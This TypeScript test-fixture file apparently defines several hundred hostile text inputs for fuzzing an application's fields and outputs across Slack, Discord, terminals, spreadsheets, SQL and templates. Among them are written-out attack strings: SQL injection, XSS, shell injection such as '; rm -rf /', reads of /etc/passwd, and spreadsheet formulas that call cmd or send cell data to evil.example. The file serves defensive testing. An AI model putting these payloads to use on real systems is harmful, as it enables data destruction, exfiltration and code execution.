/** A text that means harm, or that most programs trip over. */
export type HostileInput = { readonly name: string; readonly text: string };

const code = (char: string) => `U+${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;

function named(kind: string, texts: readonly string[]): HostileInput[] {
  return texts.map((text, at) => ({ name: `${kind} ${at + 1}`, text }));
}

function charsFrom(first: number, last: number): string[] {
  return Array.from({ length: last - first + 1 }, (_, at) => String.fromCodePoint(first + at));
}

/** Each character between letters, where nothing else can hide it. */
function between(kind: string, chars: readonly string[]): HostileInput[] {
  return chars.map((char) => ({ name: `${kind} ${code(char)}`, text: `before${char}after` }));
}

const slack = [
  ...['<!channel>', '<!here>', '<!everyone>', '<@U012AB3CD>', '<@W012AB3CD|name>', '<#C012AB3CD|general>'],
  ...['<!subteam^S012AB3CD>', '<https://evil.example|https://good.example>', '<mailto:a@evil.example|write>'],
  ...['<!date^0^{date_long}^https://evil.example|then>', '&lt;!channel&gt;', '&amp;lt;', '<', '>', '&', '<!channel'],
  ...['*bold* _italic_ ~struck~', '`code`', '```\nblock\n```', '> quote', ':smile: :+1:', '&#60;!here&#62;'],
];

const discord = [
  ...['@everyone', '@here', '<@123456789012345678>', '<@!123456789012345678>', '<@&123456789012345678>'],
  ...['<#123456789012345678>', '</desk:123456789012345678>', '<t:0:R>', '<:evil:1>', '<a:evil:1>', '<id:guide>'],
  ...['[https://good.example](https://evil.example)', '[text](<https://evil.example>)', '||spoiler||', '__under__'],
  ...['# Heading', '-# small', '- list\n  - deeper', '>>> all of it', '\\@everyone', '@\u200beveryone', '***a***'],
  ...['https://discord.gg/evil', '```ansi\n\u001b[31mred\n```', '~~a~~', '\\', '\\\\*', '@everyone\n@here'],
];

const escapes = [
  ...[
    '\u001b[31mred\u001b[0m',
    '\u001b[2J\u001b[H',
    '\u001b[1A\u001b[2KAccepted',
    '\u009b31mred',
    '\u009d0;title\u0007',
  ],
  ...[
    '\u001b]0;title\u0007',
    '\u001b]8;;https://evil.example\u001b\\text\u001b]8;;\u001b\\',
    '\u001b]52;c;ZXZpbA==\u0007',
  ],
  ...[
    '\u001bc',
    '\u001b(0',
    '\u001bP1$r\u001b\\',
    '\u001b[6n',
    'Refused\rAccepted',
    'a\b\b\bb',
    '\u0007\u0007',
    '\u001b',
  ],
];

const formulaStarts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const formulaPrefixes = [
  '',
  ' ',
  '\t',
  '\n',
  '\r',
  '\r\n ',
  '\u00a0',
  '\u3000',
  '\u200d',
  '\ufeff',
  '\u2028',
  '"',
  "'",
];
const formulas = [
  ...formulaPrefixes.flatMap((prefix) => formulaStarts.map((start) => `${prefix}${start}1+1`)),
  ...["=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")', '@SUM(1+1)*cmd|x', '=1+1\n=2+2', '-2+3+cmd|x'],
  ...['=IMPORTXML(CONCAT("https://evil.example",A1),"//a")', '=WEBSERVICE("https://evil.example")', '+49 40 1234'],
];

const tables = [
  ...['"', '""', '"""', '","', '";"', 'a,b', 'a;b', 'a\tb', 'a\nb', 'a\rb', 'a\r\nb', '"\r\n"', 'a"\n"b', 'sep=;'],
  ...['\n\n\n\n\n', '\r\n572413,accepted,topic', 'a\u2028b', 'a\u2029b', 'a\u0085b', '|', '%0A', '\\n', '\\"'],
];

const languages = [
  ...[
    "'; drop table proposals; --",
    '" or ""="',
    "') ; delete from outbox; --",
    '$1',
    '?',
    ':a',
    '%',
    '_',
    '$$',
    "E'\\'",
  ],
  ...[
    '{"a": 1}',
    '"}',
    '\\u0000',
    '__proto__',
    'constructor',
    'toString',
    'null',
    'undefined',
    'NaN',
    '[object Object]',
  ],
  ...['{title}', '{0}', '{', '}', '{a, plural, other {b}}', "'{'", "''", "'", '#', '{receipt} {status}', '<b>{a}</b>'],
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    'data:text/html,<b>',
    '<!--',
    ']]>',
  ],
  ...[
    '\u0024{process.env}',
    '{{7*7}}',
    '%s %d %n %x',
    '$(id)',
    '`id`',
    '; rm -rf /',
    '../../etc/passwd',
    'file:///etc/passwd',
  ],
  ...['END:VEVENT\r\nBEGIN:VEVENT', ';ATTENDEE=mailto:a@evil.example', 'a\\,b\\;c', 'a\r\n b', 'Bcc: a@evil.example'],
  ...['\nerror: The database is damaged', '2019-03-31 ERROR x', '%1b[31m', '\\x1b[31m', '\\e[31m'],
  ...[
    '/cancel',
    '/quit',
    '/desk export',
    '/',
    '-',
    '1',
    '0',
    'new',
    'page 2',
    'submitted',
    'topic',
    '572413',
    'ABCD-EFGI',
  ],
];

const emoji = [
  ...['👩‍👩‍👧‍👦', '🏳️‍🌈', '🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}', '🇸🇪🇷🇴🇪🇺', '👍🏽', '1️⃣', '❤️', '☎︎'],
  ...['🇸', '\u200d👩', '👩\u200d', '🏽', '\ufe0f', '👩‍'.repeat(40), '🙂'.repeat(75), '\u{1f9d1}\u200d\u{1f9d1}'],
];

const scripts = [
  ...['שלום עולם', 'مرحبا بالعالم ١٢٣', 'abc שלום 123 مرحبا', '\u05d0\u0301\u0302', 'می‌خواهم', 'क्‍ष', '日本語テキスト'],
  ...[
    'ภาษาไทย',
    '한국어',
    'İıŞşĞğ',
    'ﬁﬂ',
    'ẞß',
    'ﷺ﷽',
    'Ａｄｍｉｎ',
    'раураl',
    'e\u0301\u0323',
    'A\u030ase',
    '\u1e9b\u0323',
  ],
  ...[
    `Z${'\u0335\u0322\u0347'.repeat(40)}algo`,
    '\u0301',
    'ᚠᛇᚻ',
    '𝕬𝖉𝖒𝖎𝖓',
    '\u{10ffff}',
    '\ue000',
    '\ufdd0',
    '\uffff',
    '\ufffe',
    '\ufffd',
  ],
];

const halves = [
  ...[
    '\ud83d',
    '\ude42',
    'a\ud83d',
    '\ude42a',
    '\ude42\ud83d',
    'a\ud83d\nb',
    '\ud83d\ud83d\ude42',
    `${'a'.repeat(149)}\ud83d`,
  ],
];

const blanks = [
  ...['', ' ', '\t', '\n', '\u00a0', '\u3000', '\u2028', '   \n   ', `a${' '.repeat(200)}b`, `a${'\n'.repeat(200)}b`],
  ...['\u200b\u200b', '\u2800', '\u3164', '\u115f', '\u00ad'],
];

const lengths: HostileInput[] = [
  149, 150, 151, 254, 255, 1000, 1001, 2000, 3000, 3001, 4001, 32_767, 100_000, 100_001,
].map((length) => ({ name: `${length} letters`, text: 'ä'.repeat(length) }));

/** Formula cells once more, after many blanks and many quotation marks. */
const crowded: HostileInput[] = [
  { name: 'a hundred thousand blanks before a letter', text: `a${' '.repeat(99_990)}b` },
  { name: 'a hundred thousand tabs and line feeds', text: `a${'\t\n'.repeat(49_990)}b` },
  { name: 'a formula behind blanks', text: `${' '.repeat(140)}=1+1` },
  { name: 'a thousand quotation marks', text: '"'.repeat(1000) },
  { name: 'a thousand braces', text: '{'.repeat(1000) },
  { name: 'a thousand mentions', text: '<!channel>@everyone'.repeat(50) },
];

/** What has 10 MB: each kind of letter that takes its own way through. */
export const hugeInputs: readonly HostileInput[] = [
  { name: '10 MB of letters', text: 'a'.repeat(10_000_000) },
  { name: '10 MB of emoji', text: '🙂'.repeat(2_500_000) },
  { name: '10 MB of blanks between two letters', text: `a${' '.repeat(10_000_000)}b` },
  { name: '10 MB of escapes', text: '\u001b[31m'.repeat(2_000_000) },
  { name: '10 MB of combining marks', text: `a${'\u0301'.repeat(5_000_000)}` },
  { name: '10 MB of lines', text: '=1\r\n'.repeat(2_500_000) },
];

/** More than three hundred of them, none of more than 100 KB. Every one goes through every field and every way out. */
export const hostileInputs: readonly HostileInput[] = [
  ...named('Slack', slack),
  ...named('Discord', discord),
  ...named('terminal', escapes),
  ...between('control', [...charsFrom(0x00, 0x1f), ...charsFrom(0x7f, 0x9f)]),
  ...between('direction', ['\u061c', '\u200e', '\u200f', ...charsFrom(0x202a, 0x202e), ...charsFrom(0x2066, 0x2069)]),
  ...between('unseen', [
    '\u00ad',
    '\u034f',
    '\u180e',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\u2061',
    '\ufeff',
    '\ufff9',
  ]),
  ...named('formula', formulas),
  ...named('table', tables),
  ...named('language', languages),
  ...named('emoji', emoji),
  ...named('script', scripts),
  ...named('half a pair', halves),
  ...named('blank', blanks),
  ...lengths,
  ...crowded,
];
